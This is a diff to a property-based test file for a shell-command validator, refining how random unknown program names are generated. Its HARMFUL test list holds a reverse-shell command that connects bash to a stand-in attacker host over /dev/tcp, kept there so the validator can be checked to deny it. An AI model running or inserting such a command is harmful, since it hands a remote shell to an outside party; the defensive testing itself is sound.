@@ -16,7 +16,7 @@ from hypothesis import strategies as st
 
 from lighthouse_mcp.validation.commands import INTERPRETERS, MODELLED, SHELLS
 from lighthouse_mcp.validation.decision import Validator
-from tests.validation.conftest import decide
+from tests.validation.conftest import decide, facts
 
 RANK = {"allow": 0, "ask": 1, "deny": 2}
 
@@ -362,9 +362,10 @@ HARMFUL = [
     ("bash -i >& /dev/tcp/attacker.example/4444 0>&1", None),
 ]
 BENIGN = ["make test", "ls -la", "git status", "npm run build"]
-# Names no table or rule knows: any program a machine may have, as a wrapper or a runner.
+# Names no table or rule knows: any program a machine may have, as a wrapper or a runner (not a known program with
+# a version in its name, which is that program: `at0` is `at`, `bash5` is `bash`).
 unknown_names = st.from_regex(r"[a-z][a-z0-9]{2,9}(-[a-z]{2,6})?", fullmatch=True).filter(
-    lambda n: n not in MODELLED and n not in SHELLS and n not in INTERPRETERS
+    lambda n: n not in MODELLED and n not in SHELLS and n not in INTERPRETERS and facts(n).commands[0].name == n
 )
 
 
